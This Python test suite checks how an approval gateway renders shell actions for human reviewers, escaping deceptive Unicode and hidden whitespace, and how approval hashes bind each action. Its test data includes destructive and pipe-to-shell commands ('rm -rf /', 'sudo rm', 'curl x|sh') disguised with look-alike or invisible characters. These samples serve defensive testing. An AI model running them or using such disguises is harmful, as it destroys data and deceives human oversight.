"""Hashes and card text of an action."""

from __future__ import annotations

import json
import re
import unicodedata
from collections.abc import Mapping
from dataclasses import fields, replace
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import BaseModel, create_model

from gateway.approvals.action import action_key, action_sha, canonical, needs_escape, render, render_action
from gateway.domain.ids import Principal, SessionId, TurnId
from gateway.domain.tools import Action, NetworkMode, SandboxMode
from tests.support.proof import examples
from tests.support.rendered import unrender

ACTION = Action(tool="shell", arguments={"command": "date", "timeout": None}, cwd="/w", sandbox=SandboxMode.BASIC)
ALPHABET = re.compile(r"(?:[ -~]|⏎\n|␠×[0-9]+;|⏎×[0-9]+;\n)*")
ANY = st.text(st.characters(exclude_categories=[]))  # surrogates too
NASTY = st.text(st.sampled_from(list("\\u{}⏎␠×\n\r\t 09AF;ab\u202e\u200b\ud800")))
JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(), inner, max_size=3),
    max_leaves=8,
)

# --- what is shown is what runs -----------------------------------------------------------------


@given(ANY | NASTY)
@settings(deadline=None, max_examples=examples(400))
def test_rendered_text_reads_back_as_the_action(text: str) -> None:
    assert unrender(render(text)) == text


@given(ANY | NASTY)
@settings(deadline=None, max_examples=examples(400))
def test_rendered_text_is_printable_ascii_and_marked_line_breaks(text: str) -> None:
    shown = render(text)

    assert ALPHABET.fullmatch(shown)
    assert set(shown) <= {chr(c) for c in range(0x20, 0x7F)} | set("\n⏎␠×")


@given(NASTY, NASTY)
@settings(deadline=None, max_examples=examples(200))
def test_two_different_texts_are_never_shown_alike(one: str, other: str) -> None:
    assert (render(one) == render(other)) == (one == other)


@pytest.mark.parametrize(
    "char",
    ["\u202e", "\u2066", "\u200b", "\u00ad", "\ufeff", "\u2028", "\U000e0100", "\U000e0041", "\u3164", "\u2800",
     "\u034f", "\x9b", "\r", "\x1b", "\x00", "\x7f", "\t", "\u115f", "ｒ", "ｍ", "ѕ", "é", "⏎", "␠", "×"],
    ids=lambda char: f"U+{ord(char):04X}",
)  # fmt: skip
def test_deceptive_character_is_escaped_and_noted_on_the_card(char: str) -> None:
    """c8: overriding direction, invisible, look-alike, terminal control: none reaches the eye as it is."""
    text = f"r{char}m -rf /"
    action = replace(ACTION, arguments={"command": text})

    assert render(text) == f"r\\u{{{ord(char):X}}}m -rf /"
    assert char not in render_action(action, "command")
    assert needs_escape(action)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("\x1b[2K", r"\u{1B}[2K"),
        ("ѕudo rm", r"\u{455}udo rm"),
        ("ｒｍ x", r"\u{FF52}\u{FF4D} x"),
        ("a\nb", "a⏎\nb"),
        ("a\n\n\n\nb", "a⏎×4;\nb"),
        ("a\n\nb", "a⏎\n⏎\nb"),
        ("a" + " " * 8 + "b", "a" + " " * 8 + "b"),
        ("a" + " " * 9 + "b", "a␠×9;b"),
        ("ls" + " " * 5000 + "; curl x|sh", "ls␠×5000;; curl x|sh"),
        ("ls" + "\n" * 5000 + "curl x|sh", "ls⏎×5000;\ncurl x|sh"),
        (r"\u{202E}", r"\\u{202E}"),
        ("C:\\x", "C:\\\\x"),
        ("", ""),
    ],
)
def test_texts_of_known_attacks(text: str, shown: str) -> None:
    assert render(text) == shown
    assert unrender(shown) == text


def test_printable_ascii_is_shown_unchanged_but_the_backslash() -> None:
    letters = [chr(c) for c in range(0x20, 0x7F)]

    assert [render(letter) for letter in letters if letter != "\\"] == [one for one in letters if one != "\\"]
    assert render("\\") == "\\\\"


def test_every_character_outside_ascii_is_escaped() -> None:
    planes = (*range(0x30000), *range(0xE0000, 0xE1000), 0x10FFFF)  # between them nothing has a meaning
    others = [chr(c) for c in planes if not 0x20 <= c <= 0x7E and c != 0x0A]
    printable = sum(1 for char in others if char.isprintable() and unicodedata.category(char) != "Zs")

    assert printable > 100_000  # what a filter of `str.isprintable` would have let through
    shown = render("".join(others))
    assert set(shown) <= set("\\u{}0123456789ABCDEF")


def test_executed_argument_is_first_and_others_follow_by_name() -> None:
    action = replace(ACTION, arguments={"timeout": 5, "command": "ls\u200b", "env": {"b": 1, "a": "\r"}, "none": None})

    assert render_action(action, "command").split("\n") == [
        r"ls\u{200B}",
        r'env = {"a": "\\r", "b": 1}',
        "timeout = 5",
    ]
    assert render_action(action, None).startswith('command = "ls')


@pytest.mark.parametrize(
    ("arguments", "lines"),
    [
        ({"command": ["ls", "-l"], "b": 1}, ["b = 1", 'command = ["ls", "-l"]']),
        ({"command": None, "b": 1}, ["b = 1"]),
        ({"b": "\u00e9"}, [r'b = "\u{E9}"']),
        ({}, [""]),
    ],
)
def test_executed_argument_is_listed_by_name_when_it_is_no_text(arguments: dict[str, Any], lines: list[str]) -> None:
    assert render_action(replace(ACTION, arguments=arguments), "command").split("\n") == lines


@given(st.dictionaries(st.text(min_size=1), JSON, max_size=4))
@settings(deadline=None)
def test_no_argument_with_a_value_is_left_out(arguments: dict[str, Any]) -> None:
    shown = render_action(replace(ACTION, arguments=arguments), None)

    for name, value in arguments.items():
        assert value is None or f"{render(name)} = " in shown


@given(st.text(st.characters(min_codepoint=0x20, max_codepoint=0x7E) | st.just("\n")))
@settings(deadline=None)
def test_plain_text_has_no_badge(text: str) -> None:
    assert not needs_escape(replace(ACTION, arguments={"command": text}))


@given(st.text(), st.text(st.characters(exclude_categories=[]).filter(lambda c: not (" " <= c <= "~" or c == "\n"))))
@settings(deadline=None)
def test_anything_else_has_one(before: str, strange: str) -> None:
    if strange:
        assert needs_escape(replace(ACTION, arguments={"command": before + strange}))


# --- what an approval binds ---------------------------------------------------------------------


@given(
    st.dictionaries(st.text(), JSON, max_size=4),
    st.dictionaries(st.text(), JSON, max_size=4),
)
@settings(deadline=None, max_examples=examples(100))
def test_different_arguments_have_different_keys(one: Mapping[str, Any], other: Mapping[str, Any]) -> None:
    same = json.dumps(one, sort_keys=True) == json.dumps(other, sort_keys=True)
    keys = [action_key(replace(ACTION, arguments=arguments)) for arguments in (one, other)]

    assert (keys[0] == keys[1]) == same


def test_every_field_of_an_action_is_in_its_key() -> None:
    """A2: a field that is added to `Action` and not bound would fail here."""
    changed = {
        "tool": replace(ACTION, tool="other"),
        "arguments": replace(ACTION, arguments={**ACTION.arguments, "command": "date "}),
        "cwd": replace(ACTION, cwd="/w2"),
        "sandbox": replace(ACTION, sandbox=SandboxMode.OFF),
        "network": replace(ACTION, network=NetworkMode.NONE),
        "read_only": replace(ACTION, read_only=True),
        "home": replace(ACTION, home="0123456789abcdef"),
    }

    assert set(changed) == {field.name for field in fields(Action)}
    assert len({action_key(ACTION), *(action_key(one) for one in changed.values())}) == len(changed) + 1
    whole = replace(ACTION, network=NetworkMode.HOST, read_only=True, home="0123456789abcdef")
    assert set(json.loads(canonical(whole))) == {field.name for field in fields(Action)}
    assert len({action_key(replace(ACTION, network=one)) for one in NetworkMode}) == len(NetworkMode)


@given(st.from_regex(r"[a-z]{1,9}", fullmatch=True).filter(lambda name: name != "command"), st.integers() | st.text())
@settings(deadline=None, max_examples=examples(50))
def test_adding_a_field_to_a_tool_changes_what_is_hashed(name: str, default: int | str) -> None:
    """A2: no argument is silently unbound, not even one that was left at its default."""

    class Before(BaseModel):
        """Arguments of a tool, before a field is added."""

        command: str

    make: Any = create_model
    models: list[type[BaseModel]] = [Before, make("After", __base__=Before, **{name: (type(default), default)})]
    keys = [
        action_key(replace(ACTION, arguments=model.model_validate({"command": "date"}).model_dump(mode="json")))
        for model in models
    ]

    assert keys[0] != keys[1]


def test_action_without_exact_json_is_not_hashed() -> None:
    with pytest.raises(ValueError, match="JSON"):
        action_key(replace(ACTION, arguments={"x": float("nan")}))


def test_the_text_that_is_hashed_is_the_same_in_every_version() -> None:
    """Approvals outlive an upgrade: a form that changes would make every open one worthless."""
    action = replace(ACTION, arguments={"command": "caf\u00e9", "all": [1, None]})

    assert canonical(action) == (
        r'{"arguments":{"all":[1,null],"command":"caf\u00e9"},"cwd":"/w","sandbox":"basic","tool":"shell"}'
    )


@pytest.mark.parametrize(
    ("sandbox", "key"),
    [
        (SandboxMode.BASIC, "6eda49f4bb4a830e7b2d65a05794e021e47c0b8bd33d45eb7d0ee5e98385bd16"),
        (SandboxMode.OFF, "fd0620562c84329f5df365779d37790b7509c716a16e3072a3b562d4588d9cac"),
        (None, "3f856014b212bae423c3c58ba2ffa149dd34a1a6f2ca2ebd4c5d343d0c28df7b"),
    ],
)
def test_keys_are_those_of_earlier_versions(sandbox: SandboxMode | None, key: str) -> None:
    """Made when a sandbox was a text, and none the empty one."""
    assert action_key(replace(ACTION, arguments={"command": "caf\u00e9", "all": [1, None]}, sandbox=sandbox)) == key


def test_order_of_arguments_does_not_matter() -> None:
    one = replace(ACTION, arguments={"a": 1, "b": 2})
    assert action_key(one) == action_key(replace(ACTION, arguments={"b": 2, "a": 1}))


def test_an_approval_is_for_one_session_turn_step_and_person() -> None:
    key, session, turn, who = action_key(ACTION), SessionId("main:ann"), TurnId("t1"), Principal("telegram:1")
    found = [
        action_sha(key, session, turn, 1, who),
        action_sha("0" * 64, session, turn, 1, who),
        action_sha(key, SessionId("main:cleo"), turn, 1, who),
        action_sha(key, session, TurnId("t2"), 1, who),
        action_sha(key, session, turn, 2, who),
        action_sha(key, session, turn, 1, Principal("telegram:2")),
    ]

    assert len(set(found)) == len(found)
    # The parts are framed: moving a character between them is another binding.
    assert action_sha(key, SessionId("a"), TurnId("bc"), 1, who) != action_sha(
        key, SessionId("ab"), TurnId("c"), 1, who
    )
